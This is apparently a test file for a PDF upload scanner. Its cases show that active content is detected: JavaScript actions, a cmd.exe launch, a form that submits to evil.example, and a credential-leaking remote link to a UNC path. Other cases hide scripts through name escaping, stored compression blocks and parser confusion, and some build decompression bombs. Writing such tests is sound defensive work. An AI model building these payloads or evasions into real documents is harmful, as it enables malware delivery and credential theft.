import { randomBytes } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { pdfFault } from '../../../documents/pdf';
import { pdf, stream } from '../../integration/given/documents';

const ACTION = '<< /S /JavaScript /JS (app.alert(1)) >>';

test('an ordinary PDF passes: text, links, pictures, packed objects', async () => {
  expect(await pdfFault(pdf())).toBeUndefined();
  const ordinary = pdf(
    stream('/Filter /FlateDecode', 'BT /F1 12 Tf (JavaScript is a word) Tj ET'),
    '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org) >> >>',
    stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', '7 0 << /Title (x) >>'),
    stream('/Subtype /Image /Width 10 /Height 10 /Filter /DCTDecode', randomBytes(300_000), (bytes) => bytes),
    stream('/Subtype /Image /Filter /FlateDecode', Buffer.alloc(30_000_000)),
  );
  expect(await pdfFault(ordinary)).toBeUndefined();
});

test.each([
  ['a script', ACTION],
  ['a script with its name escaped', '<< /S /J#61v#61Script /JS (x) >>'],
  ['a program to start', '<< /S /Launch /F (cmd.exe) >>'],
  ['an embedded file', '<< /Names << /EmbeddedFiles 9 0 R >> >>'],
  ['one embedded file', '<< /Type /EmbeddedFile >>'],
  ['a form that sends itself', '<< /S /SubmitForm /F (https://evil.example) >>'],
  ['a film', '<< /Subtype /RichMedia >>'],
  ['a film of the older kind', '<< /Subtype /Movie /Movie << /F (x.avi) >> >>'],
  ['a way to a file elsewhere, which a reader opens with the name and password of whoever reads', '<< /S /GoToR /F (\\\\\\\\evil.example\\\\x) /D [0 /Fit] >>'],
  ['a form with scripts of its own', '<< /AcroForm << /XFA 9 0 R >> >>'],
])('%s is found as it lies in the file', async (_what, object) => {
  expect(await pdfFault(pdf(object))).toBe('pdfActive');
});

test.each([
  ['in packed objects', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', `7 0 ${ACTION}`)],
  ['in packed objects with everything escaped', stream('/Type /Obj#53tm /N 1 /Fir#73t 4 /Filter /Fl#61teDecode', '7 0 << /S /#4aavaScript >>')],
  ['in a stream that does not say what it is', stream('', `7 0 ${ACTION}`)],
  ['in a stream that says it is a picture and holds objects', stream('/Subtype /Image /N 1 /First 4 /Filter /FlateDecode', `7 0 ${ACTION}`)],
  ['inside of the bytes of another stream, where a table may point', stream('/Subtype /Image', `xx 9 0 obj ${ACTION} endobj`, (bytes) => bytes)],
])('a script is found %s', async (_what, object) => {
  expect(await pdfFault(pdf(object))).toBe('pdfActive');
});

test.each([
  ['encrypted', '<< /Encrypt 9 0 R >>'],
  ['packed twice', stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]', 'x')],
  ['packed in another way', stream('/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode', 'x', (bytes) => bytes)],
  ['packed in a way that stands elsewhere', stream('/Type /ObjStm /N 1 /First 4 /Filter 9 0 R', 'x')],
  ['scrambled before it was packed', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /DecodeParms << /Predictor 12 >>', 'x')],
  ['objects that do not unpack', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', 'nonsense', (bytes) => bytes)],
  ['a bomb', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', Buffer.alloc(20_000_000, 0x20))],
])('what cannot be looked into is not taken: %s', async (_what, object) => {
  expect(await pdfFault(pdf(object))).toBe('pdfNotInspectable');
});

const OBJECTS = '/Type /ObjStm /N 1 /First 4';
const HIDDEN = `7 0 ${ACTION}`;
/** The same object as hexadecimal in zlib, which we do not look into; packed, it holds no name to be found by. */
const TWICE = () => deflateSync(Buffer.from(Buffer.from(HIDDEN).toString('hex')));
const object = (dictionary: string, content: Buffer | string, opening = 'stream\n') => Buffer.concat([Buffer.from(`${dictionary}\n${opening}`, 'latin1'), Buffer.from(content), Buffer.from('\nendstream')]);

/** zlib whose first block is not packed, and so may hold any words. @param sum at its end */
function storedFirst(first: string, rest: string, sum = deflateSync(Buffer.from(first + rest)).subarray(-4)): Buffer {
  const head = Buffer.from([0x78, 0x01, 0x00, 0, 0, 0, 0]);
  head.writeUInt16LE(first.length, 3);
  head.writeUInt16LE(first.length ^ 0xffff, 5);
  return Buffer.concat([head, Buffer.from(first), deflateRawSync(Buffer.from(rest)), sum]);
}

test.each([
  ['behind the word that ends a stream', object(`<< ${OBJECTS} /Filter /FlateDecode >>`, storedFirst('7 0 (endstream)', ACTION))],
  ['behind that word, in a stream that does not say what it is', object('<< >>', storedFirst('7 0 (endstream)', ACTION.repeat(2_000)))],
  ['where a string in the dictionary looks like its beginning', object(`<< ${OBJECTS} /Filter /FlateDecode /X ( obj) >>`, deflateSync(Buffer.from(HIDDEN)))],
  ['where it looks like a picture after such a string', object(`<< ${OBJECTS} /Filter /FlateDecode /X ( obj) /Subtype /Image >>`, deflateSync(Buffer.from(HIDDEN)))],
  ['where the dictionary is long', object(`<< ${OBJECTS} /Filter /FlateDecode /Subtype /Image /X (${'x'.repeat(20_000)}) >>`, deflateSync(Buffer.from(HIDDEN)))],
  ['where only an end of line of old follows', object(`<< ${OBJECTS} /Filter /FlateDecode /Subtype /Image >>`, deflateSync(Buffer.from(HIDDEN)), 'stream\r')],
  ['behind a remark', object(`<< ${OBJECTS} /Filter /FlateDecode /Subtype /Image % >> stream\n >> % >>`, deflateSync(Buffer.from(HIDDEN)))],
])('a script is found %s', async (_what, hidden) => {
  expect(await pdfFault(pdf(hidden))).toBe('pdfActive');
});

test.each([
  ['a string that looks like the beginning of the object', object(`<< ${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode] /X ( obj) >>`, TWICE())],
  ['a dictionary within a string of the dictionary', object(`<< ${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode] /X ( 1 0 obj << /A 1 >> stream\n) >>`, TWICE())],
  ['a dictionary within a remark of the dictionary', object(`<< ${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode] % 1 0 obj <<\n /A 1 >>`, TWICE())],
  ['the end of a dictionary within a list', object(`<< /A [ >> stream\n ] ${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode] >>`, TWICE())],
  ['something else where a name belongs', object(`<< (>> stream\n) /A ${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode] >>`, TWICE())],
  ['more than a dictionary needs', object(`<< /X (${'x'.repeat(20_000)}) ${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode] /Y (${'x'.repeat(20_000)}) >>`, TWICE())],
  ['filters that stand elsewhere, in a list', object(`<< ${OBJECTS} /Filter [9 0 R] >>`, TWICE())],
  ['a zero byte where a blank belongs', object(`<< ${OBJECTS} /Filter\x009 0 R >>`, TWICE())],
  ['a filter by its short name', object(`<< ${OBJECTS} /F [/Fl /AHx] >>`, TWICE())],
  ['predictors that stand elsewhere', object(`<< ${OBJECTS} /Filter /FlateDecode /DecodeParms 9 0 R >>`, deflateSync(Buffer.from('7 0 << >>')))],
  ['a blank after the word', object(`<< ${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode] >>`, TWICE(), 'stream \n')],
  ['something else after the word', object(`<< ${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode] >>`, TWICE(), 'stream%\n')],
  ['objects whose sum is wrong', object(`<< ${OBJECTS} /Filter /FlateDecode >>`, storedFirst('7 0 << >>', ' ', Buffer.alloc(4)))],
  ['objects of which we see no beginning', object(`<< ${OBJECTS} /Filter [/FlateDecode /ASCIIHexDecode] >>\x80`, TWICE())],
])('what one reader takes otherwise than another is not taken: %s', async (_what, hidden) => {
  expect(await pdfFault(pdf(hidden))).toBe('pdfNotInspectable');
});

test('the word that ends a stream does not end it where it goes on', async () => {
  expect(await pdfFault(pdf(object('<< /Filter /FlateDecode >>', storedFirst('BT (endstream) Tj ', 'ET'))))).toBeUndefined();
  expect(await pdfFault(pdf('<< /X (a stream\n of /ObjStm) >>'))).toBe('pdfNotInspectable'); // nobody writes so
});

test('encryption is seen where a stream seems to be around it', async () => {
  expect(await pdfFault(pdf('<< /X 1 >> % stream\n', 'trailer << /Encrypt 9 0 R >> % endstream'))).toBe('pdfNotInspectable');
});

test('forms of another kind are seen in objects that lie there unpacked, and in what seems to be within a stream', async () => {
  expect(await pdfFault(pdf(object(`<< ${OBJECTS} >>`, '7 0 << /XFA 9 0 R >>')))).toBe('pdfActive');
  expect(await pdfFault(pdf('<< /X 1 >> % stream\n', '<< /AcroForm << /XFA 9 0 R >> >>', '% endstream'))).toBe('pdfActive');
});

test('streams that break off late are charged for what they have cost', async () => {
  // Each a little under what one may have, and then no end: together half a gigabyte.
  const unended = deflateSync(Buffer.alloc(7_900_000, 0x20), { finishFlush: constants.Z_FULL_FLUSH });
  const breaking = object('<< /Filter /FlateDecode >>', Buffer.concat([unended, Buffer.from([0x07])])); // there is no such kind of block
  expect(await pdfFault(pdf(...Array.from({ length: 5 }, () => breaking)))).toBeUndefined();
  expect(await pdfFault(pdf(...Array.from({ length: 70 }, () => breaking)))).toBe('pdfNotInspectable');
});

test('ten megabytes that unpack to nothing are gone through once, not once for each beginning', async () => {
  const nothing = Buffer.alloc(5).fill(Buffer.from([0x00, 0x00, 0x00, 0xff, 0xff]));
  const begun = Buffer.concat([Buffer.from('9 0 obj<<>>stream\n'), Buffer.from([0x78, 0x01])]);
  const stored = Buffer.concat(Array.from({ length: 1_000 }, () => {
    const head = Buffer.from([0x00, 0, 0, 0, 0]);
    head.writeUInt16LE(begun.length, 1);
    head.writeUInt16LE(begun.length ^ 0xffff, 3);
    return Buffer.concat([head, begun]);
  }));
  const chain = Buffer.concat([begun, stored, ...Array.from({ length: 1_000_000 }, () => nothing)]);
  expect(await pdfFault(pdf(chain))).toBe('pdfNotInspectable');
});

test('others have their turn while a file of openings is judged', async () => {
  let turns = 0;
  const timer = setInterval(() => (turns += 1), 1);
  expect(await pdfFault(pdf('9 0 obj<</A[1 2 3 4 5 6]>>\n'.repeat(300_000)))).toBeUndefined();
  clearInterval(timer);
  expect(turns).toBeGreaterThan(20);
  expect(await pdfFault(pdf('9 0 obj<<>>stream\n'.repeat(5_100)))).toBe('pdfNotInspectable');
});

test.each(['9 0 obj<<(', '9 0 obj%', '9 0 obj<</A', '9 0 obj<</A['])('a file of nothing but %j does not make us go through it again and again', async (opening) => {
  expect(await pdfFault(pdf(opening.repeat(1_000_000)))).toBe('pdfNotInspectable');
});

test('many bombs together are stopped by what they unpack to', async () => {
  const bombs = Array.from({ length: 50 }, () => stream('/Filter /FlateDecode', Buffer.alloc(7_000_000, 0x20)));
  expect(await pdfFault(pdf(...bombs))).toBe('pdfNotInspectable');
});

test('something before the beginning, no end, and another kind of file are not taken', async () => {
  expect(await pdfFault(Buffer.concat([Buffer.from('<html>'), pdf()]))).toBe('notReadable');
  expect(await pdfFault(pdf().subarray(0, -40))).toBe('notReadable');
  expect(await pdfFault(Buffer.concat([pdf(), Buffer.from('PK\x03\x04'), Buffer.alloc(5_000)]))).toBe('notReadable');
});

test('objects that are cut off are not taken: what is missing of them cannot be seen', async () => {
  const cut = stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', `7 0 ${ACTION}${' '.repeat(5_000)}`).subarray(0, -14);
  expect(await pdfFault(pdf(cut))).toBe('pdfNotInspectable');
});

test('ten megabytes of nothing but openings are judged like any other file', async () => {
  expect(await pdfFault(pdf('9 0 obj<<>>stream\n'.repeat(500_000)))).toBe('pdfNotInspectable');
  expect(await pdfFault(pdf('stream\n'.repeat(1_400_000)))).toBeUndefined(); // to no reader there is a stream in it
  expect(await pdfFault(pdf('#41'.repeat(3_300_000)))).toBeUndefined();
  expect(await pdfFault(pdf('/'.repeat(10_000_000)))).toBeUndefined();
});
